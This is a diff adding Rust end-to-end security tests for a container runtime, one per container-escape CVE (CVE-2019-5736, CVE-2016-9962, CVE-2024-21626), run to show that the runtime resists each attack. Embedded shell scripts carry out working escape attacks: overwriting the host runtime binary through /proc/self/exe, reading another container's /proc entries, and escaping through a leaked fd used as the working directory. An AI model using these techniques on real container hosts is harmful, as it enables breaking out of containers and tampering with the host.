@@ -1,0 +1,376 @@
+//! One end-to-end test per container-runtime CVE class (issue 9): each performs the attack from
+//! inside a real busybox container, or hands the runtime a hostile bundle, and fails on a runtime
+//! that has the bug. Races are driven deterministically where a hook or a full pipe can hold the
+//! runtime at the vulnerable moment, and otherwise looped for a bounded time.
+//!
+//! `BRIG=/usr/sbin/runc` runs them against runc; where Debian's runc 1.1.5 is known to be
+//! vulnerable the test says so (and then fails there, which is the proof that it can fail).
+
+use std::io::Read;
+use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use brig_tests::*;
+use serde_json::{json, Value};
+
+const T: Duration = Duration::from_secs(20);
+
+/// A host directory bind-mounted read-write at `/out` of the container, for the attacker's log.
+fn with_out(c: &mut Value, dir: &Path) {
+    add_mount(
+        c,
+        json!({"destination": "/out", "type": "bind", "source": dir.to_str().unwrap(),
+               "options": ["rbind", "rw"]}),
+    );
+}
+
+/// Waits until `file` has a line for which `done` holds; returns the whole text.
+fn wait_log(file: &Path, timeout: Duration, done: impl Fn(&str) -> bool) -> String {
+    let start = Instant::now();
+    loop {
+        let text = std::fs::read_to_string(file).unwrap_or_default();
+        if text.lines().any(&done) || start.elapsed() > timeout {
+            return text;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// Copies `bin` and the shared libraries it needs (per ldd) into `rootfs`, at their host paths,
+/// so the container can execute that binary: an image that ships a libc is all the attack of
+/// CVE-2019-5736 needs.
+fn install_runtime_libs(rootfs: &Path, bin: &Path) {
+    let out = Command::new("ldd").arg(bin).output().expect("ldd");
+    for line in String::from_utf8_lossy(&out.stdout).lines() {
+        let path = line
+            .split("=>")
+            .last()
+            .unwrap()
+            .split_whitespace()
+            .next()
+            .unwrap_or("");
+        if let Some(rel) = path.strip_prefix('/') {
+            let dst = rootfs.join(rel);
+            std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
+            std::fs::copy(path, &dst).unwrap_or_else(|e| panic!("copy {path}: {e}"));
+        }
+    }
+}
+
+/// A private copy of the runtime under test (same file name, so `is_brig` still works): the
+/// attack of CVE-2019-5736 writes to it, and no other test may be executing it meanwhile.
+fn private_runtime(test: &str, dir: &Path) -> Option<Runtime> {
+    let bin = binary_path();
+    if !bin.is_file() {
+        return Runtime::new(test);
+    }
+    let copy = dir.join(bin.file_name().unwrap());
+    std::fs::copy(&bin, &copy).unwrap();
+    Runtime::with_binary(test, copy)
+}
+
+/// A pipe whose buffer is already full: a process writing to it blocks until the read end
+/// (returned first) is closed.
+fn full_pipe() -> (OwnedFd, OwnedFd) {
+    let mut fds = [0i32; 2];
+    // SAFETY: pipe2 with a valid array of two ints.
+    assert_eq!(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) }, 0);
+    // SAFETY: fresh fds from the kernel, owned here.
+    let (r, w) = unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) };
+    // SAFETY: fcntl on our own fd.
+    let size = unsafe { libc::fcntl(w.as_raw_fd(), libc::F_GETPIPE_SZ) };
+    let buf = vec![b'x'; size as usize];
+    // SAFETY: write from a buffer of the given length.
+    let n = unsafe { libc::write(w.as_raw_fd(), buf.as_ptr().cast(), buf.len()) };
+    assert_eq!(n, size as isize);
+    (r, w)
+}
+
+/// The attacker of CVE-2019-5736, run in the container: it waits for a process whose argv[0] is
+/// `/proc/self/exe` (the runtime binary, run as the interpreter of `/evil`), keeps an fd of its
+/// executable, and, once the test has let that process die, tries to append to the binary
+/// through the fd (nothing is truncated).
+const EXE_ATTACKER: &str = r#"
+log=/out/log
+while :; do
+  for d in /proc/[0-9]*; do
+    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
+      /proc/self/exe*)
+        if head -c 1 $d/exe >/dev/null 2>&1; then
+          exec 3< $d/exe
+          echo got >> $log
+          break 2
+        fi;;
+    esac
+  done
+done
+while [ ! -e /out/go ]; do sleep 0.05; done
+i=0
+while [ $i -lt 100 ]; do
+  if err=$( (echo PWNED >> /proc/self/fd/3) 2>&1 ); then
+    echo written >> $log
+    exec sleep 1000
+  fi
+  i=$((i+1))
+  sleep 0.05
+done
+echo "failed: $err" >> $log
+exec sleep 1000
+"#;
+
+/// The bundle of the attacker container for the CVE-2019-5736 tests.
+fn exe_attack_bundle(out: &Path, bin: &Path) -> Bundle {
+    let b = Bundle::new(&["sh", "/attack.sh"]).with(|c| with_out(c, out));
+    std::fs::write(b.rootfs().join("attack.sh"), EXE_ATTACKER).unwrap();
+    // A hostile image: its entrypoint is a script whose interpreter is /proc/self/exe.
+    let evil = b.rootfs().join("evil");
+    std::fs::write(&evil, "#!/proc/self/exe\n").unwrap();
+    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
+    install_runtime_libs(&b.rootfs(), bin);
+    b
+}
+
+/// Runs `args` of the runtime with stdout and stderr on a full pipe, so that the runtime binary,
+/// if the container gets to execute it, blocks on its first write. Lets the attacker report,
+/// then closes the pipe, waits for the runtime, and lets the attacker try the write.
+fn drive_exe_attack(rt: &Runtime, args: &[&str], out: &Path) -> String {
+    let (r, w) = full_pipe();
+    let mut cmd = rt.command(&[], args);
+    cmd.stdout(Stdio::from(w.try_clone().unwrap()))
+        .stderr(Stdio::from(w));
+    let child = cmd.spawn().unwrap();
+    let log = out.join("log");
+    let text = wait_log(&log, Duration::from_secs(10), |l| l == "got");
+    drop(r);
+    wait_child(child, T).expect("runtime command did not end after its pipe closed");
+    std::fs::write(out.join("go"), "").unwrap();
+    let done = |l: &str| l == "written" || l.starts_with("failed");
+    let text = if text.lines().any(|l| l == "got") {
+        wait_log(&log, T, done)
+    } else {
+        text
+    };
+    println!("attacker log:\n{text}");
+    text
+}
+
+/// CVE-2019-5736: a container runs the runtime's own binary (an image whose entrypoint is
+/// `#!/proc/self/exe`), keeps a read-only fd of it, and after the runtime has exited reopens
+/// that fd for writing through /proc/self/fd. A vulnerable runtime (one that execs the
+/// container process straight from its host binary) has its binary on the host overwritten.
+/// runc 1.1.5 runs from a sealed memfd copy; brig runs from a read-only view of its binary.
+#[test]
+fn cve_2019_5736_proc_self_exe_exec() {
+    let bins = tempfile::tempdir().unwrap();
+    let Some(rt) = private_runtime("cve_2019_5736_proc_self_exe_exec", bins.path()) else {
+        return;
+    };
+    let before = std::fs::read(rt.bin()).unwrap();
+    let out = tempfile::tempdir().unwrap();
+    let b = exe_attack_bundle(out.path(), rt.bin());
+    let id = rt.new_id("exe-exec");
+    rt.run_detached(&b, &id).assert_ok();
+    let log = drive_exe_attack(&rt, &["exec", &id, "/evil"], out.path());
+    let after = std::fs::read(rt.bin()).unwrap();
+    assert!(
+        after == before,
+        "the container wrote to the runtime binary on the host; attacker log:\n{log}"
+    );
+    assert!(
+        log.lines().any(|l| l == "got"),
+        "the attack never got hold of the runtime binary (test is broken): {log}"
+    );
+    assert!(!log.contains("written"), "{log}");
+    rt.delete_force(&id).assert_ok();
+    assert_no_leftovers(&rt, &id, &b);
+}
+
+/// CVE-2019-5736 through the container's init: `run` of a container whose process is
+/// `#!/proc/self/exe`, in the pid namespace of an attacker container.
+#[test]
+fn cve_2019_5736_proc_self_exe_run() {
+    let bins = tempfile::tempdir().unwrap();
+    let Some(rt) = private_runtime("cve_2019_5736_proc_self_exe_run", bins.path()) else {
+        return;
+    };
+    let before = std::fs::read(rt.bin()).unwrap();
+    let out = tempfile::tempdir().unwrap();
+    let a = exe_attack_bundle(out.path(), rt.bin());
+    let ida = rt.new_id("exe-a");
+    rt.run_detached(&a, &ida).assert_ok();
+    let pidns = format!("/proc/{}/ns/pid", rt.pid(&ida));
+    let b = Bundle::new(&["/evil"]).with(|c| set_namespace_path(c, "pid", &pidns));
+    std::fs::write(b.rootfs().join("evil"), "#!/proc/self/exe\n").unwrap();
+    std::fs::set_permissions(
+        b.rootfs().join("evil"),
+        std::fs::Permissions::from_mode(0o755),
+    )
+    .unwrap();
+    install_runtime_libs(&b.rootfs(), rt.bin());
+    let idb = rt.new_id("exe-b");
+    let log = drive_exe_attack(&rt, &["run", "--bundle", b.path_str(), &idb], out.path());
+    let after = std::fs::read(rt.bin()).unwrap();
+    assert!(
+        after == before,
+        "the container wrote to the runtime binary on the host; attacker log:\n{log}"
+    );
+    assert!(
+        log.lines().any(|l| l == "got"),
+        "the attack never got hold of the runtime binary (test is broken): {log}"
+    );
+    rt.delete_force(&idb);
+    rt.delete_force(&ida).assert_ok();
+    assert_no_leftovers(&rt, &ida, &a);
+}
+
+/// The attacker of CVE-2016-9962: it looks for a process of the runtime (its cmdline names
+/// `$RT`) that has entered its pid namespace, and tries to reach that process's root, cwd,
+/// executable and environment through /proc. Each attempt is logged.
+const PROC_ATTACKER: &str = r#"
+log=/out/log
+seen=
+while :; do
+  for d in /proc/[0-9]*; do
+    p=${d#/proc/}
+    case " $seen " in *" $p "*) continue;; esac
+    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
+      *"$RT"*)
+        seen="$seen $p"
+        for what in root/ cwd/ exe environ; do
+          case $what in */) cmd=ls;; *) cmd="head -c 100";; esac
+          if l=$($cmd $d/$what 2>&1); then
+            echo "readable $what of $p: $(echo $l | head -c 100)" >> $log
+          else
+            echo "denied $what of $p: $l" >> $log
+          fi
+        done
+        echo "done $p" >> $log;;
+    esac
+  done
+done
+"#;
+
+fn proc_attack_bundle(out: &Path, rt: &Runtime) -> Bundle {
+    let name = rt.bin().file_name().unwrap().to_str().unwrap().to_string();
+    let b = Bundle::new(&["sh", "/attack.sh"]).with(|c| {
+        with_out(c, out);
+        c["process"]["env"]
+            .as_array_mut()
+            .unwrap()
+            .push(json!(format!("RT={name}")));
+    });
+    std::fs::write(b.rootfs().join("attack.sh"), PROC_ATTACKER).unwrap();
+    b
+}
+
+/// CVE-2016-9962: a container created in the pid namespace of another one waits for `start`
+/// in the runtime's init, which has already dropped to the container's capabilities but still
+/// holds the runtime's memory and fds (the exec fifo in the state dir). It must not be
+/// dumpable, or a process of the other container with the same uid and capabilities can open
+/// its /proc entries or ptrace it.
+#[test]
+fn cve_2016_9962_init_not_dumpable() {
+    let Some(rt) = Runtime::new("cve_2016_9962_init_not_dumpable") else {
+        return;
+    };
+    let out = tempfile::tempdir().unwrap();
+    let a = proc_attack_bundle(out.path(), &rt);
+    let ida = rt.new_id("dump-a");
+    rt.run_detached(&a, &ida).assert_ok();
+    let pidns = format!("/proc/{}/ns/pid", rt.pid(&ida));
+    let b = Bundle::new(&["true"]).with(|c| set_namespace_path(c, "pid", &pidns));
+    let idb = rt.new_id("dump-b");
+    rt.create_ok(&b, &idb);
+    let log = wait_log(&out.path().join("log"), T, |l| l.starts_with("done"));
+    println!("attacker log:\n{log}");
+    assert!(
+        log.contains("denied"),
+        "the attacker never saw the runtime's process (test is broken): {log}"
+    );
+    assert!(
+        !log.contains("readable"),
+        "a container process reached the init of another container through /proc: {log}"
+    );
+    rt.delete_force(&idb).assert_ok();
+    rt.delete_force(&ida).assert_ok();
+    assert_no_leftovers(&rt, &ida, &a);
+}
+
+/// CVE-2024-21626 for the init: `process.cwd` naming one of the runtime's fds
+/// (/proc/self/fd/N) must not give the container a cwd on the host. runc < 1.1.12 leaked an fd
+/// of the host's /sys/fs/cgroup there and the container escaped through `..`.
+#[test]
+fn cve_2024_21626_init_cwd_through_leaked_fd() {
+    let Some(rt) = Runtime::new("cve_2024_21626_init_cwd_through_leaked_fd") else {
+        return;
+    };
+    for n in 3..=10 {
+        let cwd = format!("/proc/self/fd/{n}");
+        let b = Bundle::sh("pwd; ls ../../../../../../ | head -c 300").with(|c| {
+            c["process"]["cwd"] = json!(cwd);
+        });
+        let id = rt.new_id("cwdfd");
+        let out = rt.run_capture(&b, &id);
+        if out.success() {
+            // Only acceptable if the cwd is a directory inside the container: pwd then names
+            // it, and `..` climbs to the container's root, never the host's.
+            assert!(
+                out.stdout.starts_with('/') && !out.stdout.contains("(unreachable)"),
+                "cwd {cwd}: {out}"
+            );
+            let top: Vec<&str> = out.stdout.lines().skip(1).collect();
+            assert!(
+                !top.iter()
+                    .any(|l| *l == "work" || *l == "boot" || *l == "home"),
+                "cwd {cwd}: the container sees the host's root: {out}"
+            );
+        }
+        rt.delete_force(&id);
+        assert_no_leftovers(&rt, &id, &b);
+    }
+}
+
+/// CVE-2024-21626, fds: the init of a container holds only its stdio (and --preserve-fds),
+/// nothing of the runtime (state dir, sync sockets, cgroup dirs).
+#[test]
+fn cve_2024_21626_init_leaks_no_fds() {
+    let Some(rt) = Runtime::new("cve_2024_21626_init_leaks_no_fds") else {
+        return;
+    };
+    let b = Bundle::new(&["sleep", "1000"]);
+    let id = rt.new_id("initfds");
+    rt.run_detached(&b, &id).assert_ok();
+    let pid = rt.pid(&id);
+    let mut fds: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
+        .unwrap()
+        .map(|e| {
+            let e = e.unwrap();
+            let target = std::fs::read_link(e.path()).unwrap_or_default();
+            format!(
+                "{} -> {}",
+                e.file_name().to_str().unwrap(),
+                target.display()
+            )
+        })
+        .collect();
+    fds.sort();
+    let extra: Vec<&String> = fds
+        .iter()
+        .filter(|f| !["0 ", "1 ", "2 "].iter().any(|p| f.starts_with(p)))
+        .collect();
+    assert!(extra.is_empty(), "the container's init holds: {fds:?}");
+    let cwd = std::fs::read_link(format!("/proc/{pid}/cwd")).unwrap();
+    assert_eq!(cwd, PathBuf::from("/"), "init's cwd");
+    rt.delete_force(&id).assert_ok();
+    assert_no_leftovers(&rt, &id, &b);
+}
+
+#[allow(dead_code)]
+fn read_all(f: &mut std::fs::File) -> String {
+    let mut s = String::new();
+    let _ = f.read_to_string(&mut s);
+    s
+}
